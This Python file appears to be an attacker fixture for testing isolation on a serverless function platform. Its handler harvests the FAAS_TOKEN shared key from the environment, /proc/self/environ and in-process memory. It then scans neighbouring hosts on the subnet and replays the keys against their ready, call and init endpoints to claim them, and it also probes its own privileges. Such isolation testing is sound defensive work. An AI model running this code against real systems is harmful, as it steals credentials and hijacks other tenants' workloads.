"""Acts as an attacker on a claimed warm task: looks for the warm service's shared key in
its environment and its own process, then tries every task on its network with it."""

import gc
import http.client
import ipaddress
import os
import socket

PORT = 8080


def environment_key():
    if os.environ.get("FAAS_TOKEN"):
        return os.environ["FAAS_TOKEN"]
    try:
        with open("/proc/self/environ", "rb") as environ:
            for entry in environ.read().split(b"\0"):
                if entry.startswith(b"FAAS_TOKEN="):
                    return entry.split(b"=", 1)[1].decode()
    except OSError as exc:
        return f"unreadable: {type(exc).__name__}"
    return None


def keys_in_memory():
    """Every string that looks like a token, held by any object of this process."""
    found = set()
    for obj in gc.get_objects():
        token = getattr(obj, "token", None) if not isinstance(obj, type) else None
        if isinstance(token, str) and len(token) >= 32:
            found.add(token)
        secret = getattr(obj, "_token", None) if not isinstance(obj, type) else None
        if isinstance(secret, bytes) and len(secret) >= 32:
            found.add(secret.decode())
    return sorted(found)


def neighbours():
    own = socket.gethostbyname(socket.gethostname())
    network = ipaddress.ip_network(f"{own}/24", strict=False)
    for host in list(network.hosts())[:16]:  # a fresh network: its tasks have the first ones
        address = str(host)
        if address == own:
            continue
        try:
            socket.create_connection((address, PORT), timeout=0.15).close()
        except OSError:
            continue
        yield address


def request(address, method, path, token, body=b"", headers=None):
    connection = http.client.HTTPConnection(address, PORT, timeout=5)
    try:
        connection.request(method, path, body=body, headers={"X-Faas-Token": token, **(headers or {})})
        response = connection.getresponse()
        return response.status, response.read()[:300].decode(errors="replace")
    except (OSError, http.client.HTTPException) as exc:
        return 0, type(exc).__name__
    finally:
        connection.close()


def privileges():
    with open("/proc/self/status") as status:
        fields = dict(line.split(":", 1) for line in status if ":" in line)
    try:
        os.chmod(__file__, 0o666)
        chmod = True
    except OSError:
        chmod = False
    return {"uid": os.getuid(), "cap_eff": int(fields["CapEff"], 16), "chmod_own_code": chmod}


def handle(event, context):
    keys = keys_in_memory()
    report = {"environment_key": environment_key(), "keys": len(keys), "peers": {}}
    report.update(privileges())
    claim = "h" * 43
    for address in neighbours():
        tries = {}
        for n, key in enumerate(keys):
            tries[f"ready-{n}"] = request(address, "GET", "/_/ready", key)[0]
            tries[f"call-{n}"] = request(address, "POST", "/", key, b"stolen?")
            tries[f"claim-{n}"] = request(
                address, "POST", "/_/init", key, b"x", {"X-Faas-Claim": claim}
            )[0]
        report["peers"][address] = tries
    return report
